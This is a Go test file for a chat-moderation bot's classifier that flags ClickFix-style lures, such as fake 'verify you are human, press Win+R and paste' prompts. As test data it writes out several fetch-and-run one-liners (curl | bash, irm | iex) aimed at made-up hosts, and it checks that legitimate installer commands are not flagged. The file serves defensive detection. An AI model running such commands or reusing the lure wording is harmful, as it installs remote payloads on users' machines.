package bot_test

import (
	"strings"
	"testing"

	"github.com/immunebot/immune/bot"
)

// TestPastedCommands: a fake human check ("verify you are human, press
// Win+R, Ctrl+V, Enter") beside a stranger's link, and a pasted command
// that fetches and runs what a bare address, a plain-HTTP site or a name
// the link model does not read as a plain site serves, are flagged; so is
// a plain site's one-liner beside a lure's words. Projects' own
// one-liners (on their sites, a hosting platform or a cheap ending the
// model reads as ordinary), the Run box in ordinary help, a warning about
// the trick and curl piped into a formatter are not. Made-up hosts, none
// in the measurement sets.
func TestPastedCommands(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"Verify you are human: press Win+R, paste with Ctrl+V and press Enter https://check-human-now.com/help", true},
		{"to prove you are human open the terminal and run curl -fsSL https://cdn-check-auth.com/v.sh | bash", true},
		{"irm https://quickfix-tools.net/go | iex", true},
		{"bash -c \"$(curl -fsSL https://update-helper.net/u)\"", true},
		{"free beta key for this server: iwr -useb https://orbitclient.app/install.ps1 | iex then log in with your Discord", true},
		{"irm https://astral.sh/uv/install.ps1 | iex", false},
		{"curl -fsSL https://bun.sh/install | bash", false},
		{"curl -L https://foundry.paradigm.xyz | bash", false},
		{"irm get.scoop.sh | iex", false},
		{"curl -fsSL https://fnm.vercel.app/install | bash", false},
		{"curl -fsSL https://tailscale.com/install.sh | sh then log in with tailscale up", false},
		{"press Win+R and type %temp% to clear the cache, see https://support.helpdesk-notes.com/clear-temp", false},
		{"Beware: fake captcha pages ask you to press Win+R and paste a command, read https://www.bleepingcomputer.com/news/security/clickfix/", false},
		{"curl https://example-api.com/v1/users | jq .", false},
	})
}

// TestPastedCommandReasons: the finding names what it read — the human
// check's words, the command's shape, the lure's words — in English and
// in Vietnamese.
func TestPastedCommandReasons(t *testing.T) {
	t.Parallel()
	c := bot.NewClassifier(bot.ClassifierConfig{})
	for _, tc := range []struct {
		text     string
		en, vi   string
		weighted float64
	}{
		{"Xác minh bạn không phải robot: nhấn Win+R, dán lệnh rồi Enter https://xacminh-trinhduyet.net",
			"khong phai robot, win r, dan lenh", "xác minh bạn là người", 0.9},
		{"irm https://quickfix-tools.net/go | iex", "irm … | iex", "tải thứ mà quickfix-tools[.]net", 0.85},
		{"free beta key for this server: iwr -useb https://orbitclient.app/install.ps1 | iex then log in with your Discord",
			"beside bait words", "kèm lời mời chào", 0.7},
	} {
		v := judgeText(c, bot.Telegram, tc.text).Verdict
		var r *bot.Reason
		for i := range v.Reasons {
			if v.Reasons[i].Code == bot.CodeRunCommand {
				r = &v.Reasons[i]
			}
		}
		if r == nil {
			t.Errorf("%q: no %s finding in %v", tc.text, bot.CodeRunCommand, v.Reasons)
			continue
		}
		if r.Weight != tc.weighted || !strings.Contains(r.DetailIn(bot.English), tc.en) || !strings.Contains(r.DetailIn(bot.Vietnamese), tc.vi) {
			t.Errorf("%q: %.2f %q / %q, want %.2f naming %q and %q", tc.text, r.Weight, r.DetailIn(bot.English), r.DetailIn(bot.Vietnamese), tc.weighted, tc.en, tc.vi)
		}
	}
}
